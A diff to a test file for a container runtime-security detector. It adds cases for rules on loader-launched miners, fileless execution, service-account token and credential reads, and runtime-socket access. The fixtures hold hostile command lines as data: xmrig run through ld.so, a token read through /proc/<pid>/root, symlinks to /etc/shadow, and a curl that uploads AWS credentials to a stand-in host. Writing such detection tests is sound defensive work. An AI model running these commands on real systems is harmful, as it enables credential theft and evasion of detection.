@@ -49,6 +49,8 @@ describe('rule binary-not-in-image', () => {
       ['a binary in an emptyDir /tmp', exec('/tmp/xmrig', ['/tmp/xmrig'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'xmrig' } })],
       // Names a process gives itself: only the runtime's own parent makes an exec the runtime's.
       ['a dropped binary named runc', exec('/tmp/runc', ['/tmp/runc'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } })],
+      ['a dropped binary run through the image\'s dynamic loader', exec('/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/tmp/xmrig', '-o', 'pool:3333'], { binary: { layer: 'LAYER_LOWER', name: 'ld-linux-x86-64.so.2' } })],
+      ['the same through musl\'s', exec('/lib/ld-musl-x86_64.so.1', ['/lib/ld-musl-x86_64.so.1', '/dev/shm/x'], { binary: { layer: 'LAYER_LOWER', name: 'ld-musl-x86_64.so.1' } })],
       ['a dropped binary calling itself runc', exec('/usr/local/bin/x', ['runc', 'init'], { comm: 'runc:[2:INIT]', binary: { layer: 'LAYER_UPPER', name: 'x' } })],
       ['a dropped runc under a shell', { ...exec('/usr/local/bin/runc', ['runc', 'init'], { binary: { layer: 'LAYER_UPPER', name: 'runc' } }), ancestry: [proc(40, '/bin/sh', ['sh'])] }],
     ]);
@@ -63,6 +65,7 @@ describe('rule binary-not-in-image', () => {
       ['docker-in-docker by its full name', inImage(exec('/usr/local/bin/built', ['built'], { binary: { layer: 'LAYER_UPPER', name: 'built' } }), 'docker.io/library/docker:27-dind-rootless')],
       ['a binary on a mounted volume', exec('/opt/tools/run', ['/opt/tools/run'], { binary: { layer: 'LAYER_NOT_OVERLAY', name: 'run' } })],
       ['a layer that could not be read', exec('/bin/true', ['true'], { binary: { layer: 'LAYER_UNKNOWN', name: 'true' } })],
+      ['an image program run through the dynamic loader', exec('/lib64/ld-linux-x86-64.so.2', ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/python3', 'app.py'], { binary: { layer: 'LAYER_LOWER', name: 'ld-linux-x86-64.so.2' } })],
     ]);
   });
 });
@@ -75,6 +78,7 @@ describe('rule fileless-execution', () => {
       ['a binary deleted after it was opened', execEvent({ filename: '/tmp/.x', argv: ['/tmp/.x'], binary: { deleted: true, links: 0, name: '.x' } })],
       // The memfd's name and the process's names are the caller's to choose.
       ['a memfd named as runc names its sealed copy', inImage(execEvent({ filename: '/proc/self/fd/3', argv: ['runc', 'init'], comm: 'runc:[2:INIT]', containerId: CONTAINER_ID, binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' }, viaFd: true }))],
+      ['a descriptor run through the dynamic loader', execEvent({ filename: '/lib64/ld-linux-x86-64.so.2', argv: ['ld.so', '/proc/self/fd/3'], binary: { links: 1, name: 'ld-linux-x86-64.so.2' } })],
       ['the same under a shell that calls itself runc', { ...execEvent({ filename: '/proc/self/fd/3', argv: ['crun'], binary: { memfd: true, links: 0, name: 'memfd:crun' }, viaFd: true }), ancestry: [proc(41, '/bin/sh', ['runc'])] }],
     ]);
   });
@@ -83,6 +87,7 @@ describe('rule fileless-execution', () => {
       ['runc init', { ...execEvent({ filename: '/proc/self/exe', argv: ['runc', 'init'], comm: 'exe', binary: { memfd: true, links: 0, name: 'memfd:runc_cloned:/proc/self/exe' } }), ancestry: [proc(30, '/usr/sbin/runc', ['runc', '--root', '/run/containerd/runc/k8s.io', 'create'])] }],
       ['a plain binary', execEvent({ filename: '/usr/bin/env' })],
       ['fexecve of a file on disk', execEvent({ filename: '/dev/fd/3', argv: ['tool'], viaFd: true, binary: { links: 1, name: 'tool' } })],
+      ['a program on disk run through the dynamic loader', execEvent({ filename: '/lib64/ld-linux-x86-64.so.2', argv: ['ld.so', '/usr/bin/env'], binary: { links: 1, name: 'ld-linux-x86-64.so.2' } })],
     ]);
   });
 });
@@ -97,6 +102,8 @@ describe('rule service-account-token-read', () => {
       ['a python one-liner in a python app', access('/usr/bin/python3.11', ['python3', '-c', `print(open("${token}").read())`], { path: token }, { containerId: CONTAINER_ID, pid: 902, nsPid: 19 }), workload('/usr/bin/python3.11')],
       ['the projected token path', access('/bin/busybox', ['head', '/var/run/secrets/tokens/vault'], { path: '/var/run/secrets/tokens/vault', watched: '/var/run/secrets/tokens/' }, { containerId: CONTAINER_ID, pid: 903, nsPid: 20 }), workload('/app/server')],
       ['another pod\'s token on the node', access('/usr/bin/find', ['find', '/var/lib/kubelet/pods', '-name', 'token', '-exec', 'cat', '{}', ';'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
+      ['a pod\'s token reached from the node through /proc/<pid>/root', access('/bin/cat', ['cat', '/proc/4242/root/var/run/secrets/kubernetes.io/serviceaccount/token'], { path: token })],
+      ['a link made to the token in a container', access('/bin/ln', ['ln', '-s', token, '/tmp/t'], { path: token, access: 'ACCESS_LINK', call: 'CALL_SYMLINK' }, { containerId: CONTAINER_ID, pid: 908, nsPid: 25 }), workload('/app/server')],
       ['the same by a copy named kubelet', access('/tmp/kubelet', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' })],
       ['the same by a process calling itself kubelet or runc', access('/usr/bin/python3', ['kubelet'], { path: '/var/lib/kubelet/pods/9f1/volumes/kubernetes.io~projected/kube-api-access-x/token', watched: '/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/' }, { comm: 'runc:[2:INIT]' })],
     ]);
@@ -121,6 +128,7 @@ describe('rule credentials-read-in-container', () => {
       ['the kubelet\'s kubeconfig through a host mount', access('/bin/sh', ['sh'], { path: '/etc/kubernetes/kubelet.conf', watched: '/etc/kubernetes/', category: 'kubelet-credentials' }, { containerId: CONTAINER_ID, pid: 912, nsPid: 32 }), workload('/app/server')],
       ['AWS credentials', access('/usr/bin/curl', ['curl', '-F', 'f=@/root/.aws/credentials', 'https://x.example'], { path: '/root/.aws/credentials', watched: '/root/.aws/credentials', category: 'cloud-credentials' }, { containerId: CONTAINER_ID, pid: 913, nsPid: 33 }), workload('/app/server')],
       ['an SSH key read by a process calling itself sshd', access('/bin/cat', ['sshd', '/root/.ssh/id_rsa'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 914, nsPid: 34, comm: 'sshd' }), workload('/app/server')],
+      ['a link made to /etc/shadow (reads through it are not seen)', access('/bin/ln', ['ln', '-s', '/etc/shadow', '/tmp/s'], { path: '/etc/shadow', watched: '/etc/shadow', category: 'shadow', access: 'ACCESS_LINK', call: 'CALL_SYMLINK' }, { containerId: CONTAINER_ID, pid: 916, nsPid: 36 }), workload('/app/server')],
       ['an SSH key read by a copy named sshd', access('/tmp/sshd', ['/tmp/sshd'], { path: '/root/.ssh/id_rsa', watched: '/root/.ssh/', category: 'ssh' }, { containerId: CONTAINER_ID, pid: 915, nsPid: 35 }), workload('/app/server')],
     ]);
   });
@@ -179,8 +187,15 @@ describe('rule runtime-socket-from-container', () => {
       ['docker.sock', unix('/var/run/docker.sock')],
       ['containerd.sock under a host mount', unix('/host/run/containerd/containerd.sock', '/tmp/ctr')],
       ['crio.sock', unix('/run/crio/crio.sock')],
+      ['BuildKit\'s daemon', unix('/run/buildkit/buildkitd.sock')],
       ['an open of the watched path', access('/bin/cat', ['cat', '/run/containerd/containerd.sock'], { path: '/run/containerd/containerd.sock', watched: '/run/containerd/containerd.sock', category: 'runtime-socket', result: -6 }, { containerId: CONTAINER_ID })],
     ]);
+  });
+  test('a connect that failed says it was tried, one under way says connected', () => {
+    const refused = { ...unix('/var/run/docker.sock'), connect: { ...unix('/var/run/docker.sock').connect!, result: -13 } };
+    assert.match(runtimeSocketFromContainer.match(refused, ruleContext())!.summary, /tried \(errno 13\) to connect to the runtime socket/);
+    const pending = { ...unix('/var/run/docker.sock'), connect: { ...unix('/var/run/docker.sock').connect!, result: -115 } };
+    assert.match(runtimeSocketFromContainer.match(pending, ruleContext())!.summary, /\/usr\/bin\/curl connected to the runtime socket/);
   });
   test('not: the host, trusted images, other unix sockets, TCP', () => {
     silent(runtimeSocketFromContainer, [
@@ -189,6 +204,7 @@ describe('rule runtime-socket-from-container', () => {
       ['TCP to a port named like it', inImage(connectEvent('10.0.0.5', 2375, { containerId: CONTAINER_ID }))],
     ]);
     const trusted = ruleContext({ file: { lists: { trusted_images: ['datadog/agent:*'] }, rules: {}, intel: { feeds: [] } } });
+    assert.equal(runtimeSocketFromContainer.match(unix('/var/run/docker.sock', '/usr/bin/agent', 'docker.io/datadog/agent:7'), trusted), null, 'as containerd names it');
     assert.equal(runtimeSocketFromContainer.match(unix('/var/run/docker.sock', '/usr/bin/agent', 'datadog/agent:7'), trusted), null);
   });
 });
